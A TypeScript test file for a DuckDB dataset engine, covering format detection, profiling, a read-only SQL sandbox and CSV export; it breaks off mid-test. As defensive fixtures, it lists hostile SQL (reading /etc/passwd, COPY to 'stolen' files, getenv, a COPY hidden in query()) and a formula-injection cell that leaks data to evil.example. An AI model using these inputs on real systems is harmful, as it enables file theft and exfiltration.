/**
 * The DataKits dataset engine against real DuckDB and real files: content sniffing, profiling
 * of every accepted format, malformed input, preview values, the SQL sandbox, export with
 * formula neutralisation, and version diffs.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { existsSync, readdirSync } from 'node:fs'
import { UnprocessableError, UnsupportedMediaTypeError } from '../../src/core/errors.ts'
import { consumeFile } from '../../src/core/files.ts'
import { DuckDBDatasetEngine } from '../../src/engines/datasets/duckdb.ts'
import { DatasetParseError, QueryTimeoutError } from '../../src/engines/datasets/errors.ts'
import { ACCEPTED_TYPES_TEXT, detectFormat, type DatasetFormat } from '../../src/engines/datasets/format.ts'
import { diffProfiles, type DatasetProfile } from '../../src/engines/datasets/profile.ts'
import { isoTimestamp } from '../../src/engines/datasets/values.ts'
import {
  CITIES,
  NOT_DATASETS,
  duckdb,
  gzipFile,
  sampleRows,
  tempDir,
  toDelimited,
  writeCsv,
  writeJsonArray,
  writeNdjson,
  writeParquet,
  writeTsv,
  type TempDir,
} from '../support/datasets.ts'

const engine = new DuckDBDatasetEngine()
/** On whose behalf the engine runs these operations (one user: the fairness tests have their own). */
const U = { user: 'test-user' }
const ROWS = sampleRows(200)
const dir: TempDir = tempDir()
/** The sample rows in every format, by the format detectFormat must report. */
const files = {} as Record<DatasetFormat, string>
/** Parquet copy of the sample, written by engine.profile in beforeAll. */
let sampleParquet: string

beforeAll(async () => {
  files.csv = await writeCsv(dir.file('sample-csv'), ROWS)
  files.tsv = await writeTsv(dir.file('sample-tsv'), ROWS)
  files.json = await writeJsonArray(dir.file('sample-json'), ROWS)
  files.ndjson = await writeNdjson(dir.file('sample-ndjson'), ROWS)
  files.parquet = await writeParquet(dir.file('sample-parquet'), ROWS)
  files['csv.gz'] = await gzipFile(files.csv, dir.file('sample-csv-gz'))
  files['tsv.gz'] = await gzipFile(files.tsv, dir.file('sample-tsv-gz'))
  files['json.gz'] = await gzipFile(files.json, dir.file('sample-json-gz'))
  files['ndjson.gz'] = await gzipFile(files.ndjson, dir.file('sample-ndjson-gz'))
  sampleParquet = dir.file('sample.parquet')
  await engine.profile(files.csv, 'csv', { ...U, parquetPath: sampleParquet })
})
afterAll(async () => {
  await engine.close()
  dir[Symbol.dispose]()
})

async function rejection(p: Promise<unknown>): Promise<Error> {
  try {
    await p
  } catch (err) {
    return err as Error
  }
  throw new Error('expected the promise to reject')
}

describe('detectFormat', () => {
  test('recognises every accepted format from its content alone (no extensions anywhere)', async () => {
    for (const [format, path] of Object.entries(files)) expect(await detectFormat(path)).toBe(format as DatasetFormat)
  })

  test('semicolon-separated text is CSV, a single JSON document is JSON, a BOM is skipped', async () => {
    await Bun.write(dir.file('semi'), 'a;b;c\n1;2;3\n4;5;6\n')
    await Bun.write(dir.file('doc'), '{\n  "a": 1,\n  "b": [1, 2]\n}\n')
    await Bun.write(dir.file('bom'), '\uFEFFa\tb\n1\t2\n')
    expect(await detectFormat(dir.file('semi'))).toBe('csv')
    expect(await detectFormat(dir.file('doc'))).toBe('json')
    expect(await detectFormat(dir.file('bom'))).toBe('tsv')
  })

  const disguised: [string, Uint8Array | string][] = [
    ['a PNG image named .csv', NOT_DATASETS.png],
    ['a ZIP archive named .csv', NOT_DATASETS.zip],
    ['an ELF executable named .csv', NOT_DATASETS.elf],
    ['random binary bytes', NOT_DATASETS.random],
    ['an empty file', new Uint8Array()],
    ['whitespace only', ' \n\n\t\n'],
    ['HTML', '<!DOCTYPE html><html><body>a,b</body></html>'],
    ['Latin-1 text (not UTF-8)', new Uint8Array([0x63, 0x61, 0x66, 0xe9, 0x2c, 0x31, 0x0a, 0x74, 0xe9, 0x2c, 0x32, 0x0a])],
    ['a Parquet header without its footer', new Uint8Array([0x50, 0x41, 0x52, 0x31, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12])],
  ]
  for (const [what, content] of disguised) {
    test(`${what} → 415 naming the accepted types`, async () => {
      const path = dir.file(`disguised-${what.replaceAll(/\W+/g, '-')}.csv`)
      await Bun.write(path, content)
      const err = await rejection(detectFormat(path))
      expect(err).toBeInstanceOf(UnsupportedMediaTypeError)
      expect((err as UnsupportedMediaTypeError).status).toBe(415)
      expect(err.message).toContain(ACCEPTED_TYPES_TEXT)
    })
  }

  test('gzip of a PNG, gzip of Parquet, gzip inside gzip and a corrupt gzip → 415', async () => {
    await Bun.write(dir.file('png'), NOT_DATASETS.png)
    const cases = [
      await gzipFile(dir.file('png'), dir.file('png-gz.csv.gz')),
      await gzipFile(files.parquet, dir.file('parquet-gz')),
      await gzipFile(files['csv.gz'], dir.file('gz-gz')),
    ]
    await Bun.write(dir.file('corrupt-gz'), new Uint8Array([0x1f, 0x8b, 0x63, 0x61, 0x66, 0xe9, 0, 0, 0, 0]))
    cases.push(dir.file('corrupt-gz'))
    for (const path of cases) {
      const err = await rejection(detectFormat(path))
      expect(err).toBeInstanceOf(UnsupportedMediaTypeError)
      expect(err.message).toContain(ACCEPTED_TYPES_TEXT)
    }
    expect((await rejection(detectFormat(dir.file('png-gz.csv.gz')))).message).toContain('PNG')
  })
})

describe('profile', () => {
  test('every format gives the same columns, row count and statistics', async () => {
    const profiles: DatasetProfile[] = []
    for (const [format, path] of Object.entries(files)) {
      const parquetPath = `${path}.parquet`
      profiles.push(await engine.profile(path, format as DatasetFormat, { ...U, parquetPath }))
      expect(await detectFormat(parquetPath)).toBe('parquet')
    }
    for (const p of profiles) {
      expect(p.rowCount).toBe(200)
      expect(p.columns.map((c) => [c.name, c.type])).toEqual([
        ['id', 'BIGINT'],
        ['name', 'VARCHAR'],
        ['city', 'VARCHAR'],
        ['amount', 'DOUBLE'],
        ['joined', 'DATE'],
        ['active', 'BOOLEAN'],
        ['note', 'VARCHAR'],
      ])
      expect(p).toEqual(profiles[0]!)
    }
  })

  test('statistics: numbers for numeric columns, ISO dates, null %, exact top values for text', async () => {
    const p = await engine.profile(files.csv, 'csv', { ...U, parquetPath: dir.file('stats.parquet') })
    const col = Object.fromEntries(p.columns.map((c) => [c.name, c]))
    expect(col.id).toMatchObject({ kind: 'number', min: 1, max: 200, mean: 100.5, nullPercent: 0 })
    expect(col.id!.std).toBeCloseTo(57.879, 2)
    expect(col.id!.q50).toBeGreaterThanOrEqual(95)
    expect(col.id!.q50).toBeLessThanOrEqual(105)
    expect(col.id!.approxDistinct).toBeGreaterThan(180)
    expect(col.id!.approxDistinct).toBeLessThanOrEqual(200)
    expect(col.amount).toMatchObject({ kind: 'number', min: 1.5, max: 300, mean: 150.75 })
    expect(col.joined).toMatchObject({ kind: 'temporal', min: '2024-01-01', max: '2024-01-28', std: null })
    expect(col.active).toMatchObject({ kind: 'boolean', min: 'false', max: 'true', mean: null })
    expect(col.note!.nullPercent).toBe(20)
    expect(col.city).toMatchObject({ kind: 'text', min: 'Kyoto', max: 'Oslo', mean: null, q25: null, approxDistinct: 4 })
    expect(col.city!.topValues).toEqual([...CITIES].sort().map((value) => ({ value, count: 50 })))
    // Every note is distinct: a top-values list would be 5 arbitrary values with count 1.
    expect(col.note!.topValues).toBeUndefined()
    expect(col.id!.topValues).toBeUndefined()
  })

  test('the statistics are the ones DuckDB\'s own SUMMARIZE reports, for every kind of column', async () => {
    // One aggregate computes what SUMMARIZE computes with a digest per quartile: the same
    // names and types, min and max, distinct estimates, null shares, means and deviations;
    // quartiles within 1 % of the column's range (both are t-digest estimates).
    const path = dir.file('types.parquet')
    await duckdb(
      `COPY (SELECT CASE WHEN i % 10 = 3 THEN NULL ELSE i END AS n, (i * 0.37)::DECIMAL(12,2) AS dec, i::HUGEINT AS huge, i / 7 AS dbl, ` +
        `DATE '2024-01-01' + (i % 400)::INT AS day, TIMESTAMP '2024-01-01' + INTERVAL (i) MINUTE AS ts, TIME '08:00:00' + INTERVAL (i % 3600) SECOND AS tm, ` +
        `INTERVAL (i % 30) DAY AS span, i % 3 = 0 AS flag, 'k' || (i % 40) AS txt, {'x': i % 5} AS obj, [i % 4] AS arr ` +
        `FROM range(20000) r(i)) TO '${path}' (FORMAT parquet)`,
    )
    const p = await engine.profile(path, 'parquet', { ...U, parquetPath: dir.file('types-copy.parquet') })
    const summary = await duckdb(`SUMMARIZE SELECT * FROM read_parquet('${path}')`)

    expect(p.rowCount).toBe(20_000)
    expect(p.columns.map((col) => [col.name, col.type])).toEqual(summary.map((r) => [String(r.column_name), String(r.column_type)]))
    const asStat = (kind: string, v: unknown) => (v === null ? null : kind === 'number' ? Number(v) : kind === 'temporal' ? isoTimestamp(String(v)) : String(v))
    const quartileTolerance = (col: (typeof p.columns)[number], a: unknown, b: unknown) => {
      if (col.kind === 'number') return Math.abs(Number(a) - Number(b)) / (Number(col.max) - Number(col.min))
      const ms = (v: unknown) => (col.type.startsWith('TIME') && !col.type.startsWith('TIMESTAMP') ? Date.parse(`1970-01-01T${v}Z`) : Date.parse(String(v)))
      return Math.abs(ms(a) - ms(b)) / (ms(col.max) - ms(col.min))
    }
    for (const [i, col] of p.columns.entries()) {
      const s = summary[i]!
      expect({ name: col.name, min: col.min, max: col.max, distinct: col.approxDistinct, nulls: col.nullPercent }).toEqual({
        name: String(s.column_name),
        min: asStat(col.kind, s.min),
        max: asStat(col.kind, s.max),
        distinct: Math.min(Number(s.approx_unique), 20_000),
        nulls: Number(s.null_percentage),
      })
      if (s.avg === null) expect([col.name, col.mean]).toEqual([col.name, null])
      else if (col.kind === 'number') expect(Number(col.mean)).toBeCloseTo(Number(s.avg), 6)
      else expect([col.name, col.mean]).toEqual([col.name, asStat(col.kind, s.avg)])
      if (s.std === null) expect([col.name, col.std]).toEqual([col.name, null])
      else expect(col.std!).toBeCloseTo(Number(s.std), 6)
      for (const q of ['q25', 'q50', 'q75'] as const) {
        if (s[q] === null) expect([col.name, q, col[q]]).toEqual([col.name, q, null])
        else expect(quartileTolerance(col, col[q], asStat(col.kind, s[q]))).toBeLessThan(0.01)
      }
    }
    const byName = Object.fromEntries(p.columns.map((col) => [col.name, col]))
    expect(byName.n!.nullPercent).toBe(10)
    expect(byName.span).toMatchObject({ kind: 'temporal', mean: null, q50: null, std: null })
    expect(byName.flag).toMatchObject({ kind: 'boolean', min: 'false', max: 'true', mean: null, q50: null })
    expect(byName.txt!.topValues).toHaveLength(5)
  })

  test('a dataset with a header and no rows profiles as zero rows with empty statistics', async () => {
    const path = dir.file('header-only')
    await Bun.write(path, 'id,name,amount\n')
    const p = await engine.profile(path, 'csv', { ...U, parquetPath: dir.file('header-only.parquet') })
    expect(p.rowCount).toBe(0)
    expect(p.columns.map((col) => col.name)).toEqual(['id', 'name', 'amount'])
    for (const col of p.columns) expect(col).toMatchObject({ nullPercent: 0, approxDistinct: 0, min: null, max: null, mean: null, std: null, q50: null })
  })

  test('top values are ordered by count, most frequent first', async () => {
    const rows = [...Array(6).fill({ k: 'b' }), ...Array(9).fill({ k: 'a' }), ...Array(3).fill({ k: 'c' }), { k: null }]
    const path = await writeCsv(dir.file('skewed'), rows)
    const p = await engine.profile(path, 'csv', { ...U, parquetPath: dir.file('skewed.parquet'), topValues: 2 })
    expect(p.columns[0]!.topValues).toEqual([
      { value: 'a', count: 9 },
      { value: 'b', count: 6 },
    ])
  })

  test('a malformed CSV fails with the line where it broke, and leaves no Parquet behind', async () => {
    const lines = toDelimited(ROWS).split('\n')
    lines[50] = '50,user 50,Lima,75,2024-01-23,false,note,extra,fields'
    const path = dir.file('broken-columns')
    await Bun.write(path, lines.join('\n'))
    const parquetPath = dir.file('broken-columns.parquet')
    const err = await rejection(engine.profile(path, await detectFormat(path), { ...U, parquetPath }))
    expect(err).toBeInstanceOf(DatasetParseError)
    expect((err as DatasetParseError).status).toBe(422)
    expect((err as DatasetParseError).line).toBe(51)
    expect(err.message).toContain('line 51')
    expect(err.message).toContain('Expected Number of Columns')
    expect(err.message).not.toContain(path)
    expect(existsSync(parquetPath)).toBe(false)
    expect(readdirSync(dir.path).filter((f) => f.startsWith('broken-columns.parquet'))).toEqual([])
  })

  test('an unterminated quote far past the sniffing sample is reported with its line', async () => {
    const rows = Array.from({ length: 30_000 }, (_, i) => ({ a: i, b: `x${i}` }))
    const lines = toDelimited(rows).split('\n')
    lines[25_001] = '25000,"never closed'
    const path = dir.file('broken-quote')
    await Bun.write(path, lines.join('\n'))
    const err = await rejection(engine.profile(path, 'csv', { ...U, parquetPath: dir.file('broken-quote.parquet') }))
    expect(err).toBeInstanceOf(DatasetParseError)
    expect((err as DatasetParseError).line).toBe(25_002)
    expect(err.message).toContain('unterminated quote')
  })

  test('a gzip CSV with a short row reports its line too', async () => {
    const lines = toDelimited(ROWS).split('\n')
    lines[10] = '10,user 10'
    await Bun.write(dir.file('short-row'), lines.join('\n'))
    const path = await gzipFile(dir.file('short-row'), dir.file('short-row-gz'))
    const err = await rejection(engine.profile(path, await detectFormat(path), { ...U, parquetPath: dir.file('short-row.parquet') }))
    expect((err as DatasetParseError).line).toBe(11)
    expect(err.message).toContain('Found: 2')
  })

  test('a value that contradicts the type guessed from the sample is not an error: the column widens', async () => {
    const rows: Record<string, unknown>[] = Array.from({ length: 30_000 }, (_, i) => ({ n: i, s: `x${i}` }))
    rows[28_000] = { n: 'n/a', s: 'late' }
    const csv = await writeCsv(dir.file('late-text'), rows)
    const p = await engine.profile(csv, 'csv', { ...U, parquetPath: dir.file('late-text.parquet') })
    expect(p.rowCount).toBe(30_000)
    expect(p.columns[0]).toMatchObject({ name: 'n', type: 'VARCHAR' })
    const nd = await writeNdjson(dir.file('late-text-nd'), rows)
    const q = await engine.profile(nd, 'ndjson', { ...U, parquetPath: dir.file('late-text-nd.parquet') })
    // JSON keeps mixed numbers and strings as JSON values rather than text.
    expect(q.rowCount).toBe(30_000)
    expect(q.columns[0]).toMatchObject({ name: 'n', type: 'JSON', kind: 'text' })
  })

  test('malformed NDJSON fails with the line DuckDB reports', async () => {
    const lines = ROWS.map((r) => JSON.stringify(r))
    lines[100] = '{"id": 101, "name": broken'
    const path = dir.file('broken-ndjson')
    await Bun.write(path, lines.join('\n'))
    expect(await detectFormat(path)).toBe('ndjson')
    const err = await rejection(engine.profile(path, 'ndjson', { ...U, parquetPath: dir.file('broken-ndjson.parquet') }))
    expect(err).toBeInstanceOf(DatasetParseError)
    expect((err as DatasetParseError).line).toBe(101)
    expect(err.message).toMatch(/^The NDJSON file could not be read: Malformed JSON at byte \d+ in line 101: /)
    expect(err.message).not.toContain(path)
  })

  test('malformed gzip NDJSON on its first line is reported on line 1', async () => {
    const lines = ROWS.map((r) => JSON.stringify(r))
    lines[0] = '{"id": 1,, "name": "x"}'
    await Bun.write(dir.file('broken-first'), lines.join('\n'))
    const path = await gzipFile(dir.file('broken-first'), dir.file('broken-first-gz'))
    const err = await rejection(engine.profile(path, await detectFormat(path), { ...U, parquetPath: dir.file('broken-first.parquet') }))
    expect((err as DatasetParseError).line).toBe(1)
  })

  test('a corrupt Parquet file (right magic, garbage inside) fails as unreadable, leaving no copy', async () => {
    const path = dir.file('corrupt-parquet')
    await Bun.write(path, new Uint8Array([0x50, 0x41, 0x52, 0x31, ...NOT_DATASETS.random.subarray(0, 64), 8, 0, 0, 0, 0x50, 0x41, 0x52, 0x31]))
    expect(await detectFormat(path)).toBe('parquet')
    const parquetPath = dir.file('corrupt-parquet.parquet')
    const err = await rejection(engine.profile(path, 'parquet', { ...U, parquetPath }))
    expect(err).toBeInstanceOf(DatasetParseError)
    expect(err.message).toStartWith('The Parquet file could not be read: ')
    expect(existsSync(parquetPath)).toBe(false)
  })

  test('toParquet converts without profiling', async () => {
    const dest = dir.file('converted.parquet')
    await engine.toParquet(files['ndjson.gz'], dest, 'ndjson.gz', U)
    const preview = await engine.preview(dest, 1, 0, U)
    expect(preview.totalRows).toBe(200)
    expect(preview.rows[0]).toMatchObject({ id: 1, city: 'Lisbon' })
  })

  test('an aborted profile rejects with the abort reason', async () => {
    const controller = new AbortController()
    controller.abort(new Error('shutting down'))
    const err = await rejection(engine.profile(files.csv, 'csv', { ...U, parquetPath: dir.file('aborted.parquet'), signal: controller.signal }))
    expect(err.message).toBe('shutting down')
  })
})

describe('preview', () => {
  test('limit and offset over the Parquet copy, in file order, with the total', async () => {
    const p = await engine.preview(sampleParquet, 3, 10, U)
    expect(p.columns).toEqual([
      { name: 'id', type: 'BIGINT' },
      { name: 'name', type: 'VARCHAR' },
      { name: 'city', type: 'VARCHAR' },
      { name: 'amount', type: 'DOUBLE' },
      { name: 'joined', type: 'DATE' },
      { name: 'active', type: 'BOOLEAN' },
      { name: 'note', type: 'VARCHAR' },
    ])
    expect(p.rows).toEqual(ROWS.slice(10, 13) as unknown as typeof p.rows)
    expect(p).toMatchObject({ offset: 10, limit: 3, totalRows: 200 })
    expect((await engine.preview(sampleParquet, 5_000_000, -4, U)).rows.length).toBe(200)
    expect((await engine.preview(sampleParquet, 10, 195, U)).rows.map((r) => r.id)).toEqual([196, 197, 198, 199, 200])
  })

  test('values are JSON-safe: big integers as strings, dates and timestamps as ISO strings', async () => {
    const path = dir.file('types.parquet')
    await duckdb(`COPY (SELECT
        42::BIGINT AS small_big, 9007199254740993::BIGINT AS huge_big, 18446744073709551615::UBIGINT AS ubig,
        12.34::DECIMAL(10,2) AS dec, 12345678901234567890.12::DECIMAL(38,2) AS wide_dec,
        'NaN'::DOUBLE AS nan, 'inf'::DOUBLE AS inf, DATE '2024-02-29' AS d,
        TIMESTAMP '2024-02-29 13:14:15.123456' AS ts, TIMESTAMPTZ '2024-02-29 13:14:15+00' AS tstz,
        [1, 2]::BIGINT[] AS list, {'a': 1::BIGINT, 'b': 'x'} AS struct, NULL::VARCHAR AS nothing
      ) TO '${path}' (FORMAT parquet)`)
    const p = await engine.preview(path, 1, 0, U)
    const row = p.rows[0]!
    expect(row).toEqual({
      small_big: 42,
      huge_big: '9007199254740993',
      ubig: '18446744073709551615',
      dec: 12.34,
      wide_dec: '12345678901234567890.12',
      nan: 'NaN',
      inf: 'Infinity',
      d: '2024-02-29',
      ts: '2024-02-29T13:14:15.123456',
      tstz: '2024-02-29T13:14:15Z',
      list: [1, 2],
      struct: { a: 1, b: 'x' },
      nothing: null,
    })
    expect(JSON.parse(JSON.stringify(row))).toEqual(row)
  })
})

describe('query sandbox', () => {
  test('an aggregate over `data` works', async () => {
    const r = await engine.query(sampleParquet, 'SELECT city, count(*) AS n, sum(amount) AS total FROM data GROUP BY city ORDER BY city', U)
    expect(r.columns).toEqual([
      { name: 'city', type: 'VARCHAR' },
      { name: 'n', type: 'BIGINT' },
      { name: 'total', type: 'DOUBLE' },
    ])
    const expected = [...CITIES].sort().map((city) => ({
      city,
      n: 50,
      total: ROWS.filter((x) => x.city === city).reduce((s, x) => s + x.amount, 0),
    }))
    expect(r.rows).toEqual(expected)
    expect(r).toMatchObject({ rowCount: 4, truncated: false })
  })

  test('WITH, FROM-first, SUMMARIZE and DESCRIBE are read-only and allowed', async () => {
    expect((await engine.query(sampleParquet, 'WITH x AS (SELECT * FROM data WHERE active) SELECT count(*) AS n FROM x', U)).rows).toEqual([{ n: 100 }])
    expect((await engine.query(sampleParquet, 'FROM data SELECT max(id) AS m;', U)).rows).toEqual([{ m: 200 }])
    expect((await engine.query(sampleParquet, 'SUMMARIZE data', U)).rowCount).toBe(7)
    expect((await engine.query(sampleParquet, 'DESCRIBE data', U)).rowCount).toBe(7)
  })

  test('the row cap truncates without reading the rest', async () => {
    const r = await engine.query(sampleParquet, 'SELECT * FROM range(1000000000000) t(i)', { ...U, maxRows: 100 })
    expect(r).toMatchObject({ rowCount: 100, truncated: true })
    expect(r.rows.at(-1)).toEqual({ i: 99 })
    expect((await engine.query(sampleParquet, 'SELECT * FROM data', { ...U, maxRows: 200 })).truncated).toBe(false)
  })

  test('a long query is interrupted at the time limit, and the event loop keeps running meanwhile', async () => {
    let ticks = 0
    const tick = setInterval(() => ticks++, 5)
    const err = await rejection(
      // A scan that runs for hours in constant memory (a cross join of two ranges, used here
      // before, builds a hash table: on a fast machine it met the memory budget within 300 ms).
      engine.query(sampleParquet, 'SELECT count(*) AS n FROM range(1000000000000) t(i) WHERE hash(i) = 0 AND i < 0', { ...U, timeoutMs: 300 }),
    )
    clearInterval(tick)
    expect(err).toBeInstanceOf(QueryTimeoutError)
    expect((err as QueryTimeoutError).status).toBe(422)
    expect(ticks).toBeGreaterThan(5)
    // The engine is fine afterwards.
    expect((await engine.query(sampleParquet, 'SELECT count(*) AS n FROM data', U)).rows).toEqual([{ n: 200 }])
  })

  /** Where refused statements try to write; checked to be untouched afterwards. */
  const outside = dir.path
  const refused: [string, string, RegExp][] = [
    ['reading /etc/passwd with read_csv', "SELECT * FROM read_csv('/etc/passwd')", /disabled by configuration/],
    ['reading /etc/passwd with read_text', "SELECT * FROM read_text('/etc/passwd')", /disabled by configuration/],
    ['reading a file with read_blob', "SELECT * FROM read_blob('/etc/hostname')", /disabled by configuration/],
    ['listing files with glob', "SELECT * FROM glob('/*')", /disabled by configuration/],
    ['a file path as a table', "SELECT * FROM '/etc/passwd'", /disabled by configuration|does not exist/],
    ['a network URL', "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')", /disabled by configuration/],
    ['an https URL as a table', "SELECT * FROM 'https://example.com/data.parquet'", /disabled by configuration/],
    ['COPY … TO a file', `COPY data TO '${outside}/stolen.csv'`, /disabled by configuration|Only read-only/],
    ['COPY (query) TO a file', `COPY (SELECT 1) TO '${outside}/stolen2.csv'`, /disabled by configuration|Only read-only/],
    ['ATTACH another database', `ATTACH '${outside}/other.duckdb' AS other`, /Only read-only/],
    ['ATTACH in memory', "ATTACH ':memory:' AS m", /Only read-only/],
    ['INSTALL an extension', 'INSTALL httpfs', /Only read-only/],
    ['LOAD an extension', 'LOAD httpfs', /Only read-only/],
    ['CREATE TABLE', 'CREATE TABLE t AS SELECT * FROM data', /Only read-only/],
    ['CREATE MACRO', 'CREATE MACRO m(x) AS x + 1', /Only read-only/],
    ['INSERT', 'INSERT INTO data VALUES (1)', /./],
    ['DROP the view', 'DROP VIEW data', /Only read-only/],
    ['UPDATE', "UPDATE data SET city = 'x'", /./],
    ['SET a setting', 'SET enable_external_access = true', /Only read-only/],
    ['RESET the lock', 'RESET lock_configuration', /Only read-only/],
    ['SET threads', 'SET threads = 1', /Only read-only/],
    ['PRAGMA that changes settings', 'PRAGMA enable_profiling', /Only read-only/],
    ['PRAGMA threads', 'PRAGMA threads = 1', /Only read-only/],
    ['EXPORT DATABASE', `EXPORT DATABASE '${outside}/export'`, /disabled by configuration|Only read-only/],
    ['CHECKPOINT', 'CHECKPOINT', /Only read-only/],
    ['CALL a function', 'CALL pragma_version()', /Only read-only/],
    ['EXPLAIN ANALYZE of a COPY', `EXPLAIN ANALYZE COPY data TO '${outside}/x.csv'`, /disabled by configuration|Only read-only/],
    ['a transaction', 'BEGIN TRANSACTION', /Only read-only/],
    ['two statements', 'SELECT 1; SELECT 2', /Exactly one statement/],
    ['a SELECT followed by a COPY', `SELECT 1; COPY data TO '${outside}/x.csv'`, /Exactly one statement|disabled by configuration/],
    ['an empty query', '  ;  ', /empty/],
    ['only a comment', '-- nothing here', /empty/],
    ['a statement hidden in query()', `SELECT * FROM query('COPY data TO ''${outside}/q.csv''')`, /Expected a single SELECT statement/],
    ['getenv', "SELECT getenv('HOME')", /does not exist|disabled/],
  ]
  for (const [what, sql, message] of refused) {
    test(`refused: ${what}`, async () => {
      const err = await rejection(engine.query(sampleParquet, sql, U))
      expect(err).toBeInstanceOf(UnprocessableError)
      expect((err as UnprocessableError).status).toBe(422)
      expect(err.message).toMatch(message)
      expect(err.message).not.toContain(sampleParquet)
    })
  }

  test('state-changing table functions inside a SELECT cannot write files either', async () => {
    await engine.query(sampleParquet, `SELECT * FROM enable_logging(level = 'trace', storage = 'file', storage_path = '${outside}/logs')`, U)
    await engine.query(sampleParquet, `SELECT * FROM enable_logging(storage = 'file', storage_path = '${sampleParquet}')`, U)
    expect(existsSync(`${outside}/logs`)).toBe(false)
    expect((await engine.preview(sampleParquet, 1, 0, U)).totalRows).toBe(200)
  })

  test("the dataset's server path does not leak through catalog functions", async () => {
    // The view reads the file through a link in the operation's own directory…
    const r = await engine.query(sampleParquet, "SELECT sql AS v FROM duckdb_views() WHERE view_name = 'data'", U)
    expect(r.rows).toEqual([{ v: `CREATE VIEW "data" AS SELECT * FROM read_parquet('data.parquet');` }])
    // …and the settings, which hold its real path, are not for the sandbox to read.
    const settings = await rejection(engine.query(sampleParquet, "SELECT value FROM duckdb_settings() WHERE name = 'allowed_paths'", U))
    expect(settings).toBeInstanceOf(UnprocessableError)
    expect({ status: (settings as UnprocessableError).status, message: settings.message }).toEqual({ status: 422, message: expect.stringContaining('duckdb_settings is not available in the DataKit sandbox') })
  })

  test('refused statements had no effect: nothing was written, the dataset is intact', async () => {
    const written = readdirSync(dir.path).filter((f) => /stolen|other\.duckdb|^export$|^x\.csv$|^q\.csv$/.test(f))
    expect(written).toEqual([])
    expect((await engine.query(sampleParquet, 'SELECT count(*) AS n FROM data', U)).rows).toEqual([{ n: 200 }])
  })

  test('DuckDB errors come back as 422 with its message, the server path replaced by `data`', async () => {
    const err = await rejection(engine.query(sampleParquet, 'SELECT no_such_column FROM data', U))
    expect(err).toBeInstanceOf(UnprocessableError)
    expect(err.message).toContain('Binder Error')
    expect(err.message).toContain('no_such_column')
    const parse = await rejection(engine.query(sampleParquet, 'SELEC 1', U))
    expect(parse.message).toContain('Parser Error')
    const viaPath = await rejection(engine.query(sampleParquet, `SELECT * FROM read_parquet('${sampleParquet}') WHERE id = 'x'`, U))
    expect(viaPath.message).not.toContain(sampleParquet)
  })

  test('queries queue for a slot instead of failing when the pool is busy', async () => {
    const narrow = new DuckDBDatasetEngine({ interactiveConcurrency: 1 })
    const results = await Promise.all(Array.from({ length: 4 }, (_, i) => narrow.query(sampleParquet, `SELECT ${i} AS i, count(*) AS n FROM data`, U)))
    expect(results.map((r) => r.rows[0])).toEqual([0, 1, 2, 3].map((i) => ({ i, n: 200 })))
    await narrow.close()
  })
})

describe('exportTo', () => {
  const hostile = [
    { id: 1, cell: '=HYPERLINK("http://evil.example/?leak="&A2,"Click")', n: -5 },
    { id: 2, cell: '+SUM(1,2)', n: -1.5 },
    { id: 3, cell: '-2+3', n: 0 },
    { id: 4, cell: '@cmd', n: 7 },
    { id: 5, cell: '\t=1+1', n: 8 },
    { id: 6, cell: '\r=1+1', n: 9 },
    { id: 7, cell: 'plain, safe', n: 10 },
  ]
  let parquet: string

  beforeAll(async () => {
    parquet = dir.file('hostile.parquet')
    await engine.toParquet(await writeNdjson(dir.file('hostile'), hostile), parquet, 'ndjson', U)
  })

  test('CSV: formula-looking text cells get a leading quote; numbers stay numbers', async () => {
    const out = dir.file('hostile-export.csv')
    const res = await engine.exportTo(parquet, 'csv', out, U)
    expect(res).toEqual({ path: out, bytes: Bun.file(out).size, contentType: 'text/csv; charset=utf-8' })
    const text = await Bun.file(out).text()
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`)
    expect(text).not.toMatch(/(^|,|")=HYPERLINK/m)
    // Read back with DuckDB's own CSV reader: every text cell is either safe or quoted.
    const back = dir.file('hostile-back.parquet')
    await engine.toParquet(out, back, await detectFormat(out), U)
    const rows = (await engine.preview(back, 100, 0, U)).rows
    expect(rows.map((r) => r.cell)).toEqual(hostile.map((h) => (/^[=+\-@\t\r]/.test(h.cell) ? `'${h.cell}` : h.cell)))
    expect(rows.map((r) => r.n)).toEqual(hostile.map((h) => h.n))
  })

  test('CSV: a header that looks like a formula is neutralised too', async () => {
    const src = await writeCsv(dir.file('hostile-header'), [{ '=cmd()': 'x', ok: 1 }])
    const pq = dir.file('hostile-header.parquet')
    await engine.toParquet(src, pq, 'csv', U)
    const out = dir.file('hostile-header-export.csv')
    await engine.exportTo(pq, 'csv', out, U)
    expect((await Bun.file(out).text()).split('\n')[0]).toBe(`'=cmd(),ok`)
  })

  test('JSON: an array of the rows, values unchanged', async () => {
    const out = dir.file('sample-export.json')
    const res = await engine.exportTo(sampleParquet, 'json', out, U)
    expect(res.contentType).toBe('application/json')
    expect(JSON.parse(await Bun.file(out).text())).toEqual(ROWS)
  })

  test('consumeFile streams an export and removes it, also when the reader cancels', async () => {
    const out = dir.file('streamed.json')
    const res = await engine.exportTo(sampleParquet, 'json', out, U)
    const body = await new Response(await consumeFile(out, 1024)).text()
    expect(body.length).toBe(res.bytes)
    expect(JSON.parse(body)).toEqual(ROWS)
    expect(existsSync(out)).toBe(false)

    const out2 = dir.file('cancelled.csv')
    await engine.exportTo(sampleParquet, 'csv', out2, U)
    const reader = (await consumeFile(out2, 64)).getReader()
    expect((await reader.read()).value!.length).toBe(64)
    await reader.cancel()
    expect(existsSync(out2)).toBe(false)
  })

  test('Parquet: a readable copy', async () => {
    const out = dir.file('sample-export.parquet')
    const res = await engine.exportTo(sampleParquet, 'parquet', out, U)
    expect(res.contentType).toBe('application/vnd.apache.parquet')
    expect(await detectFormat(out)).toBe('parquet')
    expect((await engine.preview(out, 1000, 0, U)).rows).toEqual(ROWS as unknown as Record<string, never>[])
  })
})

describe('diffProfiles', () => {
  test('added, removed and retyped columns and the row-count change between versions', async () => {
    const v1 = await engine.profile(files.csv, 'csv', { ...U, parquetPath: dir.file('v1.parquet') })
    const v2rows = sampleRows(250).map(({ note: _note, id, ...r }) => ({ id: `#${id}`, ...r, score: id % 10 }))
    const v2path = await writeCsv(dir.file('v2'), v2rows)
    const v2 = await engine.profile(v2path, 'csv', { ...U, parquetPath: dir.file('v2.parquet') })
    expect(diffProfiles(v1, v2)).toEqual({
      added: [{ name: 'score', type: 'BIGINT' }],
      removed: [{ name: 'note', type: 'VARCHAR' }],
